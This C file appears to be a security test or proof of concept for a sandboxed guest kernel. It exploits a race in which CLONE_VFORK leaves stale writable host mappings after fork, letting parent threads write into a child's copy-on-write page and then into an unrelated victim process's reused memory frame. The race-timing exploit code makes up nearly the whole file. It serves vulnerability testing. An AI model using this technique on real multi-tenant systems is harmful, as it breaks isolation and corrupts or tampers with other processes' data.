/* Cross-guest memory WRITE through a stale writable host mapping.
 *
 * fork() queues the parent's write-protect of its private pages
 * (AddressSpace.fork -> protectHost) and "the caller flushes this mm before
 * its task resumes". With CLONE_VFORK the parent does not resume: it blocks
 * until the child exits or execs, so the queue is never flushed and the
 * parent's OTHER threads keep writable host mappings of frames now shared
 * copy-on-write with the child.
 *   1. A sibling thread writes X: the child's private page changes.
 *   2. A third thread exits with clear_child_tid = X: the kernel's write
 *      breaks COW on the parent's side (new frame, put(old)) and is not
 *      flushed either (the exiting thread is parked). Now the frame's only
 *      reference is the child's, yet the parent still maps it writable. The
 *      child munmaps X, the frame is reused by an unrelated process (the
 *      victim), and the parent's spinning thread overwrites its secret.
 * Exit 0 and "LEAK"/"CORRUPT" lines = finding.
 *
 * A and B start their clocks when the child has run (a flag in a shared
 * page, set after the child's first look at X), not at the vfork call: the
 * call can wait long on a loaded host, and a write before the fork is no
 * leak. Between the flag and the writes they make no syscall (a syscall's
 * return would flush the parent's queue and hide the stale mapping). The
 * child calls it a leak only if X changed while it watched. They are out of
 * their last syscall (ready flags) before the parent forks, and the test
 * gives the guest more vCPUs than threads: a fault, a syscall's return or a
 * preemption of any parent thread after the fork flushes the queue too, and
 * would hide a stale mapping that the next syscall-free write could use.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile char *X;
static volatile int *child_ran;  /* MAP_SHARED: the vfork child has taken its first look at X */
static volatile int b_result;
static volatile int a_ready, b_ready;  /* A, B are past their last syscall before the fork */
static volatile unsigned long long t_bwrite, t_vfork, t_aexit;
static int gate[2];  /* A and B wait here (a blocking read), so they do not compete for vCPUs before the vfork */  /* bits: 1 child page written, 2 victim secret overwritten */

static unsigned long long rdtsc(void) {
  unsigned lo, hi;
  __asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
  return ((unsigned long long)hi << 32) | lo;
}
static void msleep(int ms) {
  struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
  nanosleep(&ts, NULL);
}

/* Spin (no syscall) until the vfork child has run, then cycles more. */
static void after_child(unsigned long long cycles) {
  unsigned long long t = rdtsc();
  while (!*child_ran && rdtsc() - t < 30000000000ULL) ;
  t = rdtsc();
  while (rdtsc() - t < cycles) ;
}

static void *exiter(void *arg) {
  (void)arg;
  syscall(SYS_set_tid_address, (void *)X);
  char c;
  read(gate[0], &c, 1);
  a_ready = 1;
  after_child(200000000ULL);              /* ~100 ms: after B's write (the exit flushes the parent's queue) */
  t_aexit = rdtsc();
  syscall(SYS_exit, 0);                  /* breakCow on the parent's side, never flushed */
  return NULL;
}

static void *writer(void *arg) {
  (void)arg;
  char c;
  read(gate[0], &c, 1);
  b_ready = 1;
  after_child(100000000ULL);              /* ~50 ms */
  t_bwrite = rdtsc();
  strcpy((char *)X + 16, "PARENT-WROTE-AFTER-FORK");    /* 1: into the child's page */
  b_result |= 1;
  unsigned long long t = rdtsc();
  while (rdtsc() - t < 12000000000ULL) {
    char *s = memmem((const void *)X, 4096, "VICTIM-SECRET", 13);
    if (s) { memcpy(s, "ATTACKER-WAS", 12); b_result |= 2; break; }  /* 2: into the victim */
  }
  return NULL;
}

/* The vfork child reads X through the kernel (a pipe): a load of its own
 * would fault, and a fault on a private writable page takes the child its
 * own copy at once, so a stale parent mapping would write a frame the child
 * no longer sees. */
static void peek(char out[64]) {
  int p[2];
  pipe(p);
  write(p[1], (const char *)X + 16, 63);
  read(p[0], out, 63);
  out[63] = 0;
  close(p[0]);
  close(p[1]);
}

int main(int argc, char **argv) {
  if (argc > 1 && !strcmp(argv[1], "victim")) {
    msleep(900);
    char *p = mmap(NULL, 4096 * 64, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < 64; i++) strcpy(p + i * 4096 + 100, "VICTIM-SECRET-0xC0FFEE");
    msleep(1500);
    int bad = 0;
    for (int i = 0; i < 64; i++)
      if (strcmp(p + i * 4096 + 100, "VICTIM-SECRET-0xC0FFEE")) {
        printf("victim: CORRUPT: my page %d now reads \"%s\"\n", i, p + i * 4096 + 100);
        bad = 1;
      }
    if (!bad) printf("victim: memory intact\n");
    return bad ? 42 : 0;
  }
  child_ran = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  X = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  strcpy((char *)X + 16, "PARENT-ORIGINAL");
  pid_t v = fork();
  if (v == 0) {
    char *av[] = {"/vfork_stale_write", "victim", NULL};
    execv(av[0], av);
    _exit(3);
  }
  pipe(gate);
  pthread_t a, b;
  pthread_create(&a, NULL, exiter, NULL);
  pthread_create(&b, NULL, writer, NULL);
  msleep(50);
  strcpy((char *)X + 16, "PARENT-ORIGINAL");  /* writable in the host again (the victim's fork made it read-only) */
  write(gate[1], "ab", 2);
  while (!a_ready || !b_ready) ;
  /* vfork semantics without a shared VM: the parent blocks until the child exits */
  t_vfork = rdtsc();
  long c = syscall(SYS_clone, CLONE_VFORK | SIGCHLD, 0, 0, 0, 0);
  if (c == 0) {
    char first[64], seen[64];
    peek(first);
    *child_ran = 1;
    msleep(400);
    peek(seen);
    printf("child: my private X reads \"%s\"%s\n", seen, strcmp(seen, first) ? "  <- LEAK: the parent wrote my memory after fork" : ""); fflush(stdout);
    msleep(100);
    munmap((void *)X, 4096);   /* the frame's last reference goes */
    msleep(2500);
    _exit(0);
  }
  int st;
  waitpid(c, &st, 0);
  pthread_join(b, NULL);
  int vs;
  waitpid(v, &vs, 0);
  printf("parent: vfork at 0, A exit at %+lld Mcycles, B write at %+lld Mcycles\n", (long long)(t_aexit - t_vfork) / 1000000, (long long)(t_bwrite - t_vfork) / 1000000);
  printf("parent: writer result %d, victim exit %d\n", b_result, WEXITSTATUS(vs));
  return (b_result & 2) || WEXITSTATUS(vs) == 42 ? 0 : 1;
}
